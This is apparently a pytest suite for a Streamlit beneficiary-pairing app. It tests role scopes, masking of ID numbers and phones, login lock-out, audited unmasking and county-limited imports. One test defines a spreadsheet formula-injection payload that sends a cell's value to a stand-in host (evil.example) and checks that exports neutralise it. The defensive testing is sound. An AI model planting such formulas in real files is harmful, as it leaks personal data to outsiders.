"""Who sees what in the app: the login gate, each role on every page and export, unmasking, and the audit log.

The role sweep opens every page a role has, drills down, and builds every download, with a link that
asks for another county or department. Out-of-scope beneficiaries are recognised by their masked ID
numbers (the example data has no two people whose masked IDs coincide), full IDs and phones by pattern.
"""

from __future__ import annotations

import io

import openpyxl
import pytest
from streamlit.testing.v1 import AppTest

from app_ui import filters
from pipeline import access, db, labels, masking, templates
from pipeline.ingest.rows import KIND_ORDER
from tests.conftest import ACCOUNTS, CITY_USER, EXAMPLE_TODAY, ROOT, TEST_PASSWORD, app_test, shows_no_data
from tests.drill_helpers import FULL_ID, FULL_PHONE, open_page, rendered_text, rerun, select_row, table, table_with
from tests.ingest_helpers import csv_bytes, mobile, pid

COMMON_PAGES = ["overview", "county", "department", "issues", "reminders", "report", "quality"]
PAGES_OF = {
    CITY_USER: [*COMMON_PAGES, "upload", "settings", "audit"],
    "县区测试": [*COMMON_PAGES, "upload"],
    "单位测试": COMMON_PAGES,
    "只读测试": COMMON_PAGES,
}
# what a tampered or forwarded link asks for: another county, another department
TEMPLATES = {templates.template_filename(kind) for kind in KIND_ORDER}
ASKED = {CITY_USER: {}, "县区测试": {"county": "西坪县"}, "单位测试": {"department": "市教育局"}, "只读测试": {}}


def people(path) -> list[tuple[str, str, set[str]]]:
    """Every beneficiary: ID number, county, and the departments of all his pairings."""
    with db.session(path) as con:
        rows = con.execute(
            "select b.id_number, b.county, list(p.department) filter (where p.department is not null) "
            "from beneficiary b left join pairing p on p.id_number = b.id_number group by all"
        ).fetchall()
    return [(id_number, county, set(departments or [])) for id_number, county, departments in rows]


def out_of_scope(path, user: str) -> tuple[set[str], set[str]]:
    """The masked IDs of the people this user may and may not see (may: a superset for a department)."""
    role, county, department, _ = ACCOUNTS[user]
    inside, outside = set(), set()
    for id_number, own_county, departments in people(path):
        allowed = (
            (role == "county" and own_county == county)
            or (role == "department" and department in departments)
            or role in ("city", "readonly")
        )
        (inside if allowed else outside).add(masking.mask_id(id_number))
    assert not inside & outside, "two people share a masked ID: the check could not tell them apart"
    return inside, outside


def export_text(name: str, content: bytes | str) -> str:
    """The text of a downloaded .xlsx (every cell of every sheet) or .html."""
    if name.endswith(".xlsx"):
        book = openpyxl.load_workbook(io.BytesIO(content), read_only=True)
        cells = [str(v) for sheet in book.worksheets for row in sheet.iter_rows(values_only=True) for v in row if v]
        return "\n".join(cells)
    text = content.decode("utf-8") if isinstance(content, bytes) else content
    # the inlined plotly.js library is code, not data: its numeric constants are no phone numbers
    return "\n".join(part for part in text.split("<script") if len(part) < 500_000)


def drill(at: AppTest, page: str) -> None:
    """Go one level down where a page has levels: a county's townships and pairs, a department's cadre."""
    keys = {frame.key for frame in at.dataframe}
    if page == "county" and "county_table" in keys:  # a county account's page starts at its townships
        select_row(at, "county_table", 0)
    elif page == "department" and "department_table_worst_0" in keys:
        ranking = table(at, "department_table_worst_0")
        select_row(at, "department_table_worst_0", 0)
        select_row(at, f"cadre_table_{ranking['department'][0]}", 0)
    elif page == "department":  # a department account's page is its own unit: straight to a cadre
        cadres = next(key for key in keys if key and key.startswith("cadre_table_"))
        select_row(at, cadres, 0)


def signed_in(user: str, period: str = "2026Q3", **asked) -> AppTest:
    at = app_test(user=user)
    for name, value in filters.url_params(period, **asked).items():
        at.query_params[name] = value
    return rerun(at)


@pytest.mark.parametrize("user", list(PAGES_OF))
def test_every_page_and_export_stays_within_the_role(example_db, downloads, user):
    inside, outside = out_of_scope(example_db, user)
    at = signed_in(user, **ASKED[user])
    role, county, department, _ = ACCOUNTS[user]
    if county:  # the link's 西坪县 is not even offered: the filters hold the user's own county only
        assert at.selectbox(key="county").options == [county]
    if department:
        assert at.selectbox(key="dept").options == [department]
    exported = 0
    seen: set[str] = set()
    for page in PAGES_OF[user]:
        downloads.clear()
        at.switch_page(f"app_pages/{page}.py")
        rerun(at)
        drill(at, page)
        texts = [rendered_text(at)]
        for name, build in downloads.items():
            if name.endswith(".pdf"):  # the same HTML printed by Chromium
                continue
            texts.append(export_text(name, build()))
            exported += name not in TEMPLATES  # blank templates hold no data and are not audited
        text = "\n".join(texts)
        for pattern in (FULL_ID, FULL_PHONE):
            found = pattern.search(text)
            assert found is None, (page, text[max(0, found.start() - 300) : found.end() + 50])
        leaked = sorted(masked for masked in outside if masked in text)
        assert not leaked, (page, leaked[:3])
        seen |= {masked for masked in inside if masked in text}
        if county:
            assert not {"临河区", "西坪县"} & set(text.split("\n")), page
    assert seen, "no beneficiary was shown at all: the scan would prove nothing"
    with db.session(example_db) as con:
        records = access.read_audit(con, user=user, action="export")
    assert len(records) == exported  # one record per download, none for the blank templates
    own = access.User(user, role, county, department)
    # a county or department picked while drilling down carries to the sidebar and narrows the pages after it:
    # every export is of the account's own scope or of a narrower one inside it, never of a wider or another one
    with db.session(example_db) as con:
        counties = [None, *(row[0] for row in con.execute("select distinct county from beneficiary").fetchall())]
        departments = [None, *(row[0] for row in con.execute("select distinct department from pairing").fetchall())]
    inside_scopes = {own.combine(access.Scope(c, d)) for c in counties for d in departments} - {access.NO_ACCESS}
    assert own.scope_text in set(records["scope_text"])
    assert set(records["scope_text"]) <= {access.scope_text(s) for s in inside_scopes}


def test_the_scan_sees_out_of_scope_people_when_they_are_shown(example_db):
    # the city sees 西坪县: the same scan as above finds the masked IDs the county user must not see
    _, outside = out_of_scope(example_db, "县区测试")
    at = open_page("county", county="西坪县")
    select_row(at, "county_table", 0)
    text = rendered_text(at)
    assert any(masked in text for masked in outside)


def test_a_tampered_filter_never_widens_a_scope():
    county_user = access.User("县区测试", "county", county="东川县")
    assert county_user.combine(access.Scope(county="西坪县")) == access.NO_ACCESS
    assert county_user.combine(access.Scope(department="市教育局")) == access.Scope("东川县", "市教育局")


# ---------------------------------------------------------------- login, logout, lock-out


def log_in(at: AppTest, name: str, password: str) -> AppTest:
    at.text_input[0].input(name)
    at.text_input[1].input(password)
    at.button[0].click()
    return rerun(at)


def audit_actions(path, user: str) -> list[str]:
    with db.session(path) as con:
        return access.read_audit(con, user=user)["action"].tolist()


def test_before_login_only_the_login_page_exists(example_db):
    at = rerun(app_test(user=None))
    assert [t.value for t in at.title] == [labels.LOGIN_TITLE]
    assert [t.label for t in at.text_input] == [labels.LOGIN_NAME, labels.LOGIN_PASSWORD]
    assert shows_no_data(at) and not at.selectbox
    with pytest.raises(ValueError, match="Could not find a navigation page"):
        at.switch_page("app_pages/overview.py")


def test_a_page_run_without_the_login_shows_nothing(example_db):
    at = rerun(app_test(ROOT / "app_pages" / "county.py", user=None))
    assert [w.value for w in at.warning] == [labels.MSG_SIGN_IN_FIRST]
    assert not at.dataframe and not at.metric


def test_wrong_password_then_login_then_logout_each_give_one_audit_record(example_db):
    at = rerun(app_test(user=None))
    log_in(at, CITY_USER, "不是这个密码")
    assert [e.value for e in at.error] == [labels.MSG_LOGIN_FAILED]
    assert [t.value for t in at.title] == [labels.LOGIN_TITLE]
    log_in(at, CITY_USER, TEST_PASSWORD)
    assert [t.value for t in at.title] == [labels.PAGE_TITLES["overview"]]
    assert labels.SIDEBAR_ACCOUNT.format(name=CITY_USER, role="市级") in [c.value for c in at.sidebar.caption]
    assert at.metric  # the figures are there
    at.button(key="logout").click()
    rerun(at)
    assert [t.value for t in at.title] == [labels.LOGIN_TITLE]
    assert not at.metric
    assert audit_actions(example_db, CITY_USER) == ["logout", "login", "login_failed"]


def test_an_unknown_name_gets_the_same_message_and_is_not_recorded_by_name(example_db):
    at = log_in(rerun(app_test(user=None)), "没有这个人", TEST_PASSWORD)
    assert [e.value for e in at.error] == [labels.MSG_LOGIN_FAILED]
    assert audit_actions(example_db, labels.AUDIT_UNKNOWN_USER) == ["login_failed"]
    assert audit_actions(example_db, "没有这个人") == []


def test_five_wrong_passwords_lock_the_account_even_for_the_right_one(example_db):
    at = rerun(app_test(user=None))
    for _ in range(access.MAX_FAILED_LOGINS):
        log_in(at, "县区测试", "错误的密码123")
    assert [e.value for e in at.error] == [labels.MSG_LOGIN_LOCKED.format(minutes=15)]
    log_in(at, "县区测试", TEST_PASSWORD)
    assert [e.value for e in at.error] == [labels.MSG_LOGIN_LOCKED.format(minutes=15)]
    assert [t.value for t in at.title] == [labels.LOGIN_TITLE]
    assert audit_actions(example_db, "县区测试") == ["login_failed"] * (access.MAX_FAILED_LOGINS + 1)


def test_a_disabled_account_is_signed_out_on_its_next_run(example_db):
    at = signed_in(CITY_USER)
    assert at.metric
    with db.session(example_db) as con:
        access.disable_user(con, CITY_USER, "市级可查看")
    rerun(at)
    assert [t.value for t in at.title] == [labels.LOGIN_TITLE]
    assert [w.value for w in at.warning] == [labels.MSG_SESSION_ENDED]
    assert not at.metric


# ---------------------------------------------------------------- pages by permission


@pytest.mark.parametrize(
    ("user", "page"),
    [
        ("只读测试", "upload"),
        ("只读测试", "settings"),
        ("只读测试", "audit"),
        ("县区测试", "settings"),
        ("县区测试", "audit"),
        ("单位测试", "upload"),
    ],
)
def test_a_page_outside_the_role_is_neither_offered_nor_usable(example_db, user, page):
    at = signed_in(user)
    with pytest.raises(ValueError, match="Could not find a navigation page"):
        at.switch_page(f"app_pages/{page}.py")
    direct = rerun(app_test(ROOT / "app_pages" / f"{page}.py", user=user))  # the page file run on its own
    role = labels.ROLE_LABELS[ACCOUNTS[user][0]]
    assert [e.value for e in direct.error] == [labels.MSG_NO_PERMISSION.format(role=role)]
    assert not direct.get("file_uploader") and not direct.dataframe and not direct.number_input


def test_the_import_checks_are_for_the_city_office_only(example_db):
    city = open_page("quality")
    county = open_page("quality", user="县区测试")
    city_tabs = [t.label for t in city.tabs]
    county_tabs = [t.label for t in county.tabs]
    titles = labels.QUALITY_CHECK_TITLES
    assert titles["rejected_rows"] in city_tabs and titles["unknown_columns"] in city_tabs
    assert titles["rejected_rows"] not in county_tabs and titles["unknown_columns"] not in county_tabs
    assert labels.QUALITY_FILE_CHECKS_CITY_ONLY in [c.value for c in county.caption]


# ---------------------------------------------------------------- unmasking


def unmask_switch(at: AppTest):
    found = [t for t in at.toggle if t.label == labels.UNMASK_TOGGLE]
    return found[0] if found else None


def test_unmasking_is_a_permission_per_view_and_each_view_is_audited_once(example_db, downloads):
    full_ids = {p[0] for p in people(example_db) if p[1] == "东川县"}
    assert unmask_switch(select_row(open_page("county", user="县区测试"), "county_table", 0)) is None
    at = select_row(open_page("county", user="县区可查看"), "county_table", 0)
    assert not FULL_ID.search(rendered_text(at))  # masked until asked
    unmask_switch(at).set_value(True)
    rerun(at)
    shown = set(FULL_ID.findall(rendered_text(at)))
    assert shown and shown <= full_ids  # full IDs now, and only of his county
    rerun(at)  # the same view again: no second record
    with db.session(example_db) as con:
        records = access.read_audit(con, user="县区可查看", action="unmask")
    assert len(records) == 1
    assert records["scope_text"][0] == "县区：东川县"
    assert records["detail"][0] == labels.AUDIT_DETAIL_UNMASK.format(page=labels.PAGE_TITLES["county"], period="2026Q3")
    pairs = next(name for name in downloads if name.endswith(labels.PAIRS_HEADER.format(place="") + ".xlsx"))
    assert FULL_ID.search(export_text(pairs, downloads[pairs]()))
    with db.session(example_db) as con:
        export = access.read_audit(con, user="县区可查看", action="export")
    assert export["detail"].tolist() == [
        labels.AUDIT_DETAIL_EXPORT.format(file=pairs, masking=labels.AUDIT_DETAIL_EXPORT_FULL)
    ]
    # another period is another view: masked again until switched on again
    at.selectbox(key="q").select("2026Q2")
    at = select_row(rerun(at), "county_table", 0)
    assert not unmask_switch(at).value
    assert not FULL_ID.search(rendered_text(at))


# ---------------------------------------------------------------- imports by a county office


def test_a_county_upload_touches_only_its_county_and_is_audited(example_db):
    header = ["身份证号", "姓名", "对象类别", "县区", "乡镇", "结对干部", "干部电话", "干部单位", "结对日期"]
    rows = [
        header,
        [pid(901), "新甲", "孤儿", "东川县", "东川乡", "郭斌", mobile(801), "市教育局", "2026-10-01"],
        [pid(902), "新乙", "孤儿", "西坪县", "西坪镇", "王伟", mobile(802), "市教育局", "2026-10-01"],
    ]
    at = open_page("upload", user="县区测试")
    at.file_uploader[0].set_value(("东川县新增.csv", csv_bytes(rows), "text/csv"))
    rerun(at)
    at.button(key="upload_start").click()
    rerun(at)
    counts = {m.label: m.value for m in at.metric}
    assert counts[labels.COUNT_LABELS["inserted"]] == "1" and counts[labels.COUNT_LABELS["rejected"]] == "1"
    reasons = [frame.value for frame in at.dataframe if labels.ERROR_REASON_COLUMN in frame.value.columns]
    assert reasons[0][labels.ERROR_REASON_COLUMN].tolist() == [labels.MSG_OUT_OF_COUNTY.format(county="东川县")]
    with db.session(example_db) as con:
        stored = {row[0] for row in con.execute("select county from beneficiary where name like '新%'").fetchall()}
        records = access.read_audit(con, user="县区测试", action="import")
    assert stored == {"东川县"}
    assert records[["scope_text", "row_count"]].values.tolist() == [["县区：东川县", 1]]
    history = table(at, "upload_history")
    assert history[labels.UPLOAD_HISTORY_COLUMNS["user_name"]].tolist() == ["县区测试"]  # not the city's imports


# ---------------------------------------------------------------- the audit page


def test_the_audit_page_lists_and_filters_the_records(example_db):
    at = open_page("audit")
    action_column = labels.AUDIT_COLUMN_LABELS["action"]
    listed = table_with(at, action_column)
    assert (listed[action_column] == labels.AUDIT_ACTION_LABELS["user_add"]).sum() == len(ACCOUNTS)
    at.selectbox(key="audit_action").select("user_add")
    rerun(at)
    assert set(table_with(at, action_column)[action_column]) == {labels.AUDIT_ACTION_LABELS["user_add"]}


# ---------------------------------------------------------------- caches survive logins and exports


def test_a_login_or_export_keeps_the_cached_figures_an_import_settings_change_or_snapshot_does_not(example_db):
    from app_ui import data
    from pipeline import settings, snapshots
    from pipeline.ingest.load import import_bytes

    def after(step) -> bool:
        before_file, before_data = data.file_version(), data.data_version()
        with db.session(example_db) as con:
            step(con)
        assert data.file_version() != before_file  # every one of these writes the file
        return data.data_version() != before_data

    user = access.User(CITY_USER, "city")
    assert not after(lambda con: access.authenticate(con, CITY_USER, TEST_PASSWORD))
    assert not after(lambda con: access.log_action(con, user, "export", "文件：x.xlsx", 3))
    header = ["身份证号", "姓名", "对象类别", "县区", "乡镇", "结对干部", "干部电话", "干部单位", "结对日期"]
    row = [pid(903), "新丙", "孤儿", "东川县", "东川乡", "郭斌", mobile(803), "市教育局", "2026-10-01"]
    assert after(lambda con: import_bytes(con, csv_bytes([header, row]), "新增.csv", today=EXAMPLE_TODAY))
    assert after(lambda con: settings.write_settings(con, {"overdue_days": 45}, CITY_USER))
    assert after(lambda con: snapshots.create_snapshot(con, "2026Q3", CITY_USER, "", EXAMPLE_TODAY))


# ---------------------------------------------------------------- rejected rows of another office's file

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A2,"备注")'


def test_rejected_rows_of_another_offices_file_are_masked_inert_and_audited(example_db, downloads):
    from tests.payloads import formula_cells

    header = [
        "身份证号",
        "姓名",
        "对象类别",
        "县区",
        "乡镇",
        "结对干部",
        "干部电话",
        "干部单位",
        "结对日期",
        FORMULA_TITLE,
    ]
    outside = [pid(911), "外县甲", "孤儿", "西坪县", "西坪镇", "王伟", mobile(811), "市教育局", "2026-10-01", "x"]
    wrong = [
        pid(912)[:-1] + "0" if pid(912)[-1] != "0" else pid(912)[:-1] + "1",
        "错号乙",
        "孤儿",
        "东川县",
        "东川乡",
        "郭斌",
        mobile(812),
        "市教育局",
        "2026-10-01",
        "=1+1",
    ]
    good = [pid(913), "新丙", "孤儿", "东川县", "东川乡", "郭斌", mobile(813), "市教育局", "2026-10-01", ""]
    at = open_page("upload", user="县区测试")
    at.file_uploader[0].set_value(("东川县补录.csv", csv_bytes([header, outside, wrong, good]), "text/csv"))
    rerun(at)
    at.button(key="upload_start").click()
    rerun(at)
    own = next(build for name, build in downloads.items() if name.startswith("东川县补录") and "拒收" in name)()
    # the uploader's own download: his rows as written (full ID numbers to find them), but nothing runs
    assert formula_cells(own) == []
    assert FULL_ID.search(export_text("x.xlsx", own)) and FULL_PHONE.search(export_text("x.xlsx", own))
    name = labels.UPLOAD_HISTORY_FILENAME.format(batch=4, file="东川县补录")

    def history_download(user: str) -> bytes:
        downloads.clear()
        at = open_page("upload", user=user)
        history = table(at, "upload_history")
        select_row(
            at, "upload_history", history[labels.UPLOAD_HISTORY_COLUMNS["file_name"]].tolist().index("东川县补录.csv")
        )
        return downloads[name]()

    city = history_download(CITY_USER)  # 市级 without the permission to see full identifiers
    assert formula_cells(city) == []
    text = export_text(name, city)
    assert not FULL_ID.search(text) and not FULL_PHONE.search(text), text
    assert masking.mask_id(outside[0]) in text and masking.mask_phone(outside[6]) in text
    assert "外*甲" in text and FORMULA_TITLE in text  # names masked; the title is there, as text
    rows = openpyxl.load_workbook(io.BytesIO(city)).active
    assert rows["J1"].value == "'" + FORMULA_TITLE and rows["J1"].data_type == "s"
    full = history_download("市级可查看")  # granted: the rows as written, audited as such
    assert FULL_ID.search(export_text(name, full)) and formula_cells(full) == []
    assert FULL_ID.search(export_text(name, history_download("县区测试")))  # the uploader himself
    with db.session(example_db) as con:
        records = access.read_audit(con, action="export")
    by_user = {user: detail for user, detail in zip(records["user_name"], records["detail"], strict=True)}
    assert by_user[CITY_USER] == labels.AUDIT_DETAIL_EXPORT.format(file=name, masking=labels.AUDIT_DETAIL_EXPORT_MASKED)
    assert by_user["市级可查看"] == labels.AUDIT_DETAIL_EXPORT.format(
        file=name, masking=labels.AUDIT_DETAIL_EXPORT_FULL
    )
